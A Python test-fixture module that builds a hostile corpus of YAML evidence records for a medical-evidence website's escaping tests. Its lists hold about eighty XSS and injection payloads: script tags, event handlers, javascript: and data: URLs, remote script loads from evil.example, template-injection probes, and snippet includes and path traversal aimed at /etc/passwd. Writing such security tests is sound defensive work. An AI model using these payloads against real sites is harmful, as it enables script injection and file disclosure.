"""A hostile evidence corpus: every XSS and injection vector in every free-text field of every kind.

The vectors live in one list below. `write_corpus` turns them into a schema-valid evidence tree
(one study, claim, attribution claim, source and search per vector) in a folder given at test
time; nothing generated is committed. Each vector carries a unique marker (`xss-017`) and, where
it could run, calls `window.__xss.push(17)` (or opens a dialog), so a browser test can tell
execution apart from display. `free_text_paths` reads the schemas, so a new free-text field
fails the coverage test until the skeletons below fill it.

Used by tests/test_hostile_site.py and tests/test_hostile_inputs.py, and by the figures script
`python -m tests.hostile_corpus` (cases, time and memory for the note; no timing is asserted).
"""

from __future__ import annotations

import copy
import shutil
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import yaml

from build_tools.paths import KINDS, SCHEMA_DIR, modeline
from build_tools.schema import _deref, raw_schemas

# (category, payload); "NUM" in a payload becomes the vector's number, "MARK" its marker.
# Categories: script, handler, url-scheme, encoding, broken-tag, embed, svg-math,
# attribute-break, template, markdown (structure injection), snippet.
VECTORS: list[tuple[str, str]] = [
    ("script", '<script id="MARK">window.__xss.push(NUM)</script>'),
    ("script", "<SCRIPT SRC=https://evil.example/MARK.js></SCRIPT>"),
    ("script", "<scr<script>ipt>window.__xss.push(NUM)</scr</script>ipt> MARK"),
    ("script", "<<script>window.__xss.push(NUM);//<</script> MARK"),
    ("script", '<script src="data:text/javascript,window.__xss.push(NUM)" class=MARK></script>'),
    ("script", "</script><script>window.__xss.push(NUM)</script> MARK"),
    ("handler", '<img src=x onerror="window.__xss.push(NUM)" alt="MARK">'),
    ("handler", "<img src=x onerror=window.__xss.push(NUM) class=MARK>"),
    ("handler", "<IMG SRC=/ oNeRrOr=alert(NUM) id=MARK>"),
    ("handler", "<svg onload=window.__xss.push(NUM) id=MARK>"),
    ("handler", "<body onload=window.__xss.push(NUM) class=MARK>"),
    ("handler", "<details open ontoggle=window.__xss.push(NUM) id=MARK>x</details>"),
    ("handler", "<input autofocus onfocus=window.__xss.push(NUM) name=MARK>"),
    ("handler", '<video><source onerror="window.__xss.push(NUM)" id=MARK></video>'),
    ("handler", "<marquee onstart=window.__xss.push(NUM)>MARK</marquee>"),
    ("handler", "<div style=\"position:fixed;inset:0\" onmouseover=\"window.__xss.push(NUM)\" "
                "id=MARK>x</div>"),
    ("url-scheme", "[MARK](javascript:window.__xss.push(NUM))"),
    ("url-scheme", "![MARK](javascript:window.__xss.push(NUM))"),
    ("url-scheme", "[MARK](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)"),
    ("url-scheme", "[MARK](vbscript:msgbox(NUM))"),
    ("url-scheme", '<a href="javascript:window.__xss.push(NUM)">MARK</a>'),
    ("url-scheme", "[MARK](jav&#x09;ascript:window.__xss.push(NUM))"),
    ("url-scheme", "[MARK](java\nscript:window.__xss.push(NUM))"),
    ("url-scheme", "[MARK][evil]\n\n[evil]: javascript:window.__xss.push(NUM)"),
    ("url-scheme", "<javascript:window.__xss.push(NUM)> <https://evil.example/MARK>"),
    ("url-scheme", '[MARK](https://example.org/ "x" onclick="window.__xss.push(NUM)")'),
    ("encoding", '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;'
                 'window.__xss.push(NUM)">MARK</a>'),
    ("encoding", '<IMG SRC="jav&#x0A;ascript:window.__xss.push(NUM)" id=MARK>'),
    ("encoding", "&lt;script&gt;window.__xss.push(NUM)&lt;/script&gt; MARK"),
    ("encoding", "&#x3C;script&#x3E;window.__xss.push(NUM)&#x3C;/script&#x3E; MARK"),
    ("encoding", "\\x3cscript\\x3ewindow.__xss.push(NUM)\\x3c/script\\x3e MARK"),
    ("encoding", "%3Cscript%3Ewindow.__xss.push(NUM)%3C/script%3E MARK"),
    ("encoding", "\uff1cscript\uff1ewindow.__xss.push(NUM)\uff1c/script\uff1e MARK"),
    ("encoding", "<img src=x onerror=&#x77;indow.__xss.push(NUM) id=MARK>"),
    ("encoding", "\\<script\\>window.__xss.push(NUM)\\</script\\> MARK"),
    ("encoding", "\u2028<script>window.__xss.push(NUM)</script>\u2029 MARK \u200b<scr\u200bipt>"),
    ("broken-tag", '<img """><script>window.__xss.push(NUM)</script>"> MARK'),
    ("broken-tag", "<img src=x onerror=window.__xss.push(NUM)//MARK"),
    ("broken-tag", "<!-- MARK --><script>window.__xss.push(NUM)</script>"),
    ("broken-tag", "--><script>window.__xss.push(NUM)</script><!-- MARK"),
    ("broken-tag", "]]><script>window.__xss.push(NUM)</script> MARK"),
    ("broken-tag", "</title><script>window.__xss.push(NUM)</script><title>MARK"),
    ("broken-tag", "</textarea></style></noscript><script>window.__xss.push(NUM)</script> MARK"),
    ("embed", '<iframe src="javascript:window.__xss.push(NUM)" id=MARK></iframe>'),
    ("embed", '<iframe srcdoc="<script>parent.__xss.push(NUM)</script>" name=MARK></iframe>'),
    ("embed", '<object data="data:text/html,<script>parent.__xss.push(NUM)</script>" '
              "id=MARK></object>"),
    ("embed", '<embed src="javascript:window.__xss.push(NUM)" id=MARK>'),
    ("embed", "<style>@import 'https://evil.example/MARK.css';</style>"),
    ("embed", "<link rel=stylesheet href=https://evil.example/MARK.css>"),
    ("embed", '<meta http-equiv="refresh" content="0;url=javascript:window.__xss.push(NUM)" '
              "name=MARK>"),
    ("embed", '<base href="https://evil.example/MARK/">'),
    ("embed", '<form action="javascript:window.__xss.push(NUM)"><button id=MARK>go</button></form>'),
    ("svg-math", "<svg><script>window.__xss.push(NUM)</script><title>MARK</title></svg>"),
    ("svg-math", '<svg><a xlink:href="javascript:window.__xss.push(NUM)"><text>MARK</text></a></svg>'),
    ("svg-math", '<math href="javascript:window.__xss.push(NUM)">MARK</math>'),
    ("svg-math", "<math><mtext><table><mglyph><style><img src=x onerror=window.__xss.push(NUM) "
                 "id=MARK>"),
    ("svg-math", "<svg><foreignObject><iframe srcdoc='<script>parent.__xss.push(NUM)</script>'>"
                 "</iframe></foreignObject><desc>MARK</desc></svg>"),
    ("attribute-break", '" onmouseover="window.__xss.push(NUM)" data-x="MARK'),
    ("attribute-break", "' autofocus onfocus='window.__xss.push(NUM)' data-x='MARK"),
    ("attribute-break", '"><img src=x onerror=window.__xss.push(NUM) id=MARK>'),
    ("attribute-break", "`><svg onload=window.__xss.push(NUM) id=MARK>"),
    ("template", "{{ 7*7 }} {{ window.__xss.push(NUM) }} MARK"),
    ("template", "{% raw %}{{ config }}{% endraw %}{% for x in y %}{# MARK #}"),
    ("template", "${window.__xss.push(NUM)} #{MARK} <%= 7*7 %> ${{7*7}}"),
    ("template", "{{ ''.__class__.__mro__[1].__subclasses__() }} MARK"),
    ("markdown", "| a | b |\n|---|---|\n| <script>window.__xss.push(NUM)</script> | MARK |"),
    ("markdown", "x\n# MARK heading\n## sub { onclick=window.__xss.push(NUM) }"),
    ("markdown", "MARK\n===\n\n---\ntitle: <script>window.__xss.push(NUM)</script>\n---"),
    ("markdown", '<div markdown="1">**MARK** <script>window.__xss.push(NUM)</script></div>'),
    ("markdown", '!!! note "MARK"\n    <script>window.__xss.push(NUM)</script>'),
    ("markdown", '??? danger "MARK" <img src=x onerror=window.__xss.push(NUM)>'),
    ("markdown", 'MARK { onclick="window.__xss.push(NUM)" }'),
    ("markdown", '{: #MARK .x onclick="window.__xss.push(NUM)" }'),
    ("markdown", "MARK[^1]\n\n[^1]: <script>window.__xss.push(NUM)</script>"),
    ("markdown", "```html\n<script>window.__xss.push(NUM)</script>\n``` MARK"),
    ("markdown", "    <script>window.__xss.push(NUM)</script>\n\n- MARK\n1. list\n* * *"),
    ("markdown", "**MARK** _x_ `code` ~~del~~ <b>bold</b> <u>u</u> *[HTML]: abbr"),
    ("markdown", "[TOC] [[MARK]] :material-alert: @MARK ![[x]]"),
    ("snippet", '--8<-- "/etc/passwd"\nMARK'),
    ("snippet", ';--8<-- "mkdocs.yml" MARK'),
    ("snippet", "--8<--\n../../../../etc/hostname\n--8<--\nMARK"),
    ("snippet", '    --8<-- "MARK-missing.md"'),
]

# Narrow fields (volume, issue, pages, p) get one of these when a vector does not fit.
SHORT_VECTORS: list[str] = ["<b>MARK</b>", "[MARK](javascript:1)", "# MARK |a|", "{{MARK}}",
                            "<i x=MARK>", "&lt;MARK&gt;", "--8<-- MARK", "*MARK* {: x }"]

# Addresses the schema accepts (https, no space, quote or angle bracket) that still try to break
# out of a Markdown link or an attribute. They go in every URL field of the hostile corpus.
URL_VECTORS: list[str] = [
    "https://example.org/MARK)](javascript:window.__xss.push(NUM))",
    "https://example.org/MARK?a=1&b=2#{{7*7}}",
    "https://example.org/MARK%22onmouseover=window.__xss.push(NUM)%22",
    "https://example.org/MARK`onmouseover=1`",
    "https://example.org/MARK\\x/y",
    "https://example.org/MARK/*a*_b_|c|[d]{e}",
    "https://javascript:window.__xss.push(NUM)@example.org/MARK",
    "https://example.org/MARK/;--8-/etc/passwd!!!%20note",
]

# What URL fields must refuse (schema patterns): the negative test uses every one.
BAD_URLS: list[str] = [
    "javascript:alert(1)", "JAVASCRIPT:alert(1)", " javascript:alert(1)", "java\tscript:alert(1)",
    "data:text/html,<script>alert(1)</script>", "data:text/html;base64,PHNjcmlwdD4=",
    "vbscript:msgbox(1)", "//evil.example/x", "https://example.org/\"onmouseover=alert(1)",
    "https://example.org/<script>", "https://example.org/ x", "ftp://example.org/x",
    "file:///etc/passwd", "https:javascript:alert(1)",
]

# Ids that try to climb out of evidence/ or docs/: every id field must refuse them.
BAD_IDS: list[str] = ["../../etc", "..", "a/../../b", "/etc/passwd", "x\\..\\y", "Upper",
                      "with space", "a..b", "-lead", "%2e%2e"]

FREE = "\x00FREE\x00"  # placeholder in the skeletons for a free-text value
URL = "\x00URL\x00"  # placeholder for an address
WEB_URL = "\x00WEBURL\x00"  # placeholder for an http(s) address (source url)


def marker(n: int) -> str:
    """The unique marker of vector n: 'xss-017'."""
    return f"xss-{n:03d}"


def payload(n: int) -> str:
    """Vector n as it goes into a record (numbered and marked)."""
    return VECTORS[n][1].replace("MARK", marker(n)).replace("NUM", str(n))


def url_payload(n: int) -> str:
    """An address for vector n's records, cycling through URL_VECTORS."""
    return URL_VECTORS[n % len(URL_VECTORS)].replace("MARK", marker(n)).replace("NUM", str(n))


def short_payload(n: int, limit: int) -> str:
    """A short hostile value for a field of at most limit characters."""
    text = SHORT_VECTORS[n % len(SHORT_VECTORS)].replace("MARK", marker(n))
    return text if len(text) <= limit else marker(n)[:limit]


def _free_text(node: dict) -> bool:
    """A string field with no enum, const, pattern or format: anything a contributor types."""
    return (node.get("type") == "string" and not any(
        k in node for k in ("enum", "const", "pattern", "format", "oneOf")))


def _walk(node: dict, path: tuple[str, ...], schemas: dict) -> Iterator[tuple[str, dict]]:
    """(dotted path, node) for every string leaf below node; list items are marked []."""
    node = _deref(node, schemas)
    for key in ("oneOf", "anyOf", "allOf"):
        for branch in node.get(key, []):
            if isinstance(branch, dict) and "const" not in branch:
                yield from _walk(branch, path, schemas)
    if node.get("type") == "array":
        yield from _walk(node.get("items", {}), path + ("[]",), schemas)
    for name, sub in node.get("properties", {}).items():
        yield from _walk(sub, path + (name,), schemas)
    if node.get("type") == "string":
        yield ".".join(path), node


def free_text_paths(kind: str) -> dict[str, int]:
    """Every free-text field of a record kind (dotted, [] for list items) -> its maxLength."""
    schemas = raw_schemas()
    found = {}
    for dotted, node in _walk(schemas[KINDS[kind][1]], (), schemas):
        if _free_text(node):
            found[dotted] = int(node.get("maxLength", 100_000))
    return found


JUDGEMENT_DOMAINS = {"risk_of_bias": "serious", "inconsistency": "no-change",
                     "indirectness": "serious", "imprecision": "very-serious",
                     "publication_bias": "serious", "large_effect": "no-change",
                     "dose_response": "no-change", "plausible_confounding": "no-change"}


def _study(n: int) -> dict[str, Any]:
    """A study using every field, free text left as FREE; links to vector n's other records."""
    sid, other = f"hostile-{n:03d}", f"hostile-{(n + 1) % len(VECTORS):03d}"
    cite = {"from": "abstract", "locator": FREE}
    return {
        "id": sid, "title": FREE,
        "authors": [{"family": FREE, "given": FREE}, {"literal": FREE}],
        "journal": FREE, "journal_abbrev": FREE, "year": 2020, "month": 5,
        "volume": FREE, "issue": FREE, "pages": FREE,
        "ids": {"doi": f"10.1234/hostile.{n}", "pmid": str(1000 + n), "pmcid": f"PMC{1000 + n}",
                "registry": [f"NCT{n:08d}"]},
        "publication_type": "journal-article", "design": "rct", "status": "stopped-early",
        "stopped_early_reason": FREE, "blinding": "double-blind", "comparator": FREE,
        "setting": "inpatient", "country": [FREE], "funding": FREE, "summary": FREE,
        "participants": {"condition": FREE, "crps_type": "type-1",
                         "diagnostic_criteria": "budapest", "enrolled": 12, "randomised": 10,
                         "analysed": 10, "arms": [{"name": FREE, "n": 5}, {"name": FREE, "n": 5}],
                         "female": 6, "age": FREE, "disease_duration": FREE, "cite": cite},
        "intervention": {"agent": "racemic-ketamine", "route": "iv",
                         "regimen": "intermittent-daily", "dose_as_reported": FREE,
                         "rate": {"min": 0.1, "max": 0.3, "unit": "mg/kg/h"},
                         "hours_per_session": 4, "sessions": 4,
                         "co_interventions": [{"agent": FREE, "detail": FREE}], "cite": cite},
        "follow_up": {"weeks": 12, "description": FREE, "cite": cite},
        "outcomes": [
            {"id": "pain", "domain": "pain", "instrument": FREE, "timepoint": FREE, "weeks": 1,
             "comparison": "vs-placebo", "result": FREE, "direction": "benefit", "n": 10,
             "p": FREE, "ci": FREE, "cite": cite},
            {"id": "function", "domain": "physical-function", "instrument": FREE,
             "timepoint": FREE, "weeks": 12, "comparison": "vs-placebo", "result": FREE,
             "direction": "no-difference", "cite": cite}],
        "risk_of_bias": {"tool": "rob2", "domains": [
            {"domain": FREE, "judgement": "high", "reason": FREE}],
            "overall": "high", "reason": FREE, "assessed_from": "abstract"},
        "critiques": [
            {"id": "by-source", "text": FREE, "grade_domain": "risk-of-bias",
             "by_source": f"hostile-source-{n:03d}"},
            {"id": "by-study", "text": FREE, "grade_domain": "imprecision", "by_study": other},
            {"id": "by-url", "text": FREE, "grade_domain": "indirectness", "by_url": URL},
            {"id": "by-curators", "text": FREE, "grade_domain": "publication-bias",
             "by_curators": True}],
        "review": {"search_end": "2020-01", "databases": [FREE], "conclusion": FREE,
                   "certainty_as_rated": FREE, "cite": cite},
        "notes": [{"topic": FREE, "text": FREE}],
        "verified_from": [{"key": "abstract", "url": URL, "basis": "abstract",
                           "accessed": "2026-11-22"}],
        "unlinked_reason": FREE, "reviewed": "2026-11-22",
    }


def _claim(n: int) -> dict[str, Any]:
    """A graded claim with PICO, judgements in every domain and a linked outcome."""
    sid = f"hostile-{n:03d}"
    return {
        "id": f"hostile-claim-{n:03d}", "statement": FREE, "type": "efficacy", "key": True,
        "domain": "pain", "timeframe": "short-term",
        "pico": {"population": FREE, "intervention": FREE, "comparator": FREE, "outcome": FREE},
        "asserted_by": [{"source": f"hostile-source-{n:03d}", "paraphrase": FREE},
                        {"study": sid, "paraphrase": FREE}],
        "evidence": [{"study": sid, "outcome": "pain", "stance": "supports",
                      "directness": "direct", "note": FREE},
                     {"study": sid, "outcome": "function", "stance": "refutes",
                      "directness": "indirect-population", "note": FREE}],
        "judgements": {d: {"rating": r, "reason": FREE, "critiques": [f"{sid}#by-source"]}
                       for d, r in JUDGEMENT_DOMAINS.items()},
        "notes": FREE, "reviewed": "2026-11-22",
    }


def _attribution(n: int) -> dict[str, Any]:
    """An attribution claim checked against vector n's study."""
    return {
        "id": f"hostile-attribution-{n:03d}", "statement": FREE, "type": "attribution",
        "domain": "pain", "asserted_by": [{"source": f"hostile-source-{n:03d}",
                                          "paraphrase": FREE}],
        "evidence": [],
        "attribution": {"study": f"hostile-{n:03d}", "checks": [
            {"aspect": FREE, "asserted": FREE, "record_says": FREE, "matches": "no"},
            {"aspect": FREE, "asserted": FREE, "record_says": FREE, "matches": "partly"}]},
        "notes": FREE, "reviewed": "2026-11-22",
    }


def _source(n: int) -> dict[str, Any]:
    """A source with every field."""
    return {
        "id": f"hostile-source-{n:03d}", "kind": "forum", "title": FREE, "publisher": FREE,
        "authors": [{"family": FREE, "given": FREE}, {"literal": FREE}], "date": "2014-02",
        "date_note": FREE, "url": WEB_URL, "archived_url": URL,
        "seed_file": f"{n:03d}_0123456789abcdef.txt", "summary": FREE, "reviewed": "2026-11-22",
    }


def _search(n: int) -> dict[str, Any]:
    """A search with an included, an excluded and a duplicate candidate."""
    sid = f"hostile-{n:03d}"
    return {
        "id": f"hostile-search-{n:03d}", "database": FREE, "query": FREE, "date": "2026-11-22",
        "hits": 3, "notes": FREE,
        "candidates": [
            {"label": FREE, "decision": "included", "study": sid, "url": URL},
            {"label": FREE, "decision": "excluded", "reason": FREE},
            {"label": FREE, "decision": "duplicate", "study": sid, "reason": FREE}],
    }


def _fill(value: Any, n: int, kind: str, path: tuple[str, ...], limits: dict[str, int],
          used: set[str]) -> Any:
    """The skeleton with placeholders replaced: the vector, or a short one where it won't fit."""
    if isinstance(value, dict):
        return {k: _fill(v, n, kind, path + (k,), limits, used) for k, v in value.items()}
    if isinstance(value, list):
        return [_fill(v, n, kind, path + ("[]",), limits, used) for v in value]
    if value == FREE:
        dotted = ".".join(path)
        used.add(dotted)
        full = payload(n)
        limit = limits[dotted]
        return full if len(full) <= limit else short_payload(n, limit)
    if value == URL:
        return url_payload(n)
    if value == WEB_URL:
        return url_payload(n) if n % 2 else url_payload(n).replace("https://", "http://", 1)
    return value


def records(n: int) -> Iterator[tuple[str, str, dict[str, Any], set[str]]]:
    """Vector n's records: (kind, id, data, free-text paths filled)."""
    makers = [("study", _study), ("claim", _claim), ("claim", _attribution),
              ("source", _source), ("search", _search)]
    for kind, make in makers:
        used: set[str] = set()
        data = _fill(make(n), n, kind, (), free_text_paths(kind), used)
        yield kind, data["id"], data, used


def dump(kind: str, data: dict[str, Any]) -> str:
    """A record file: the modeline, then the data as block YAML."""
    return modeline(kind) + "\n" + yaml.safe_dump(data, allow_unicode=True, sort_keys=False,
                                                  width=100)


def write_corpus(evidence_dir: Path, vectors: range | None = None) -> dict[str, set[str]]:
    """Write the hostile corpus into evidence_dir; returns kind -> free-text paths filled."""
    shutil.copytree(SCHEMA_DIR, evidence_dir / "schema", dirs_exist_ok=True)
    covered: dict[str, set[str]] = {kind: set() for kind in KINDS}
    for n in vectors if vectors is not None else range(len(VECTORS)):
        for kind, rid, data, used in records(n):
            folder = evidence_dir / KINDS[kind][0]
            folder.mkdir(parents=True, exist_ok=True)
            (folder / f"{rid}.yaml").write_text(dump(kind, data), encoding="utf-8")
            covered[kind] |= used
    return covered


def study_record(n: int = 0) -> dict[str, Any]:
    """Vector n's study as data (a deep copy), for tests that break one field of it."""
    return copy.deepcopy(next(r for r in records(n) if r[0] == "study")[2])
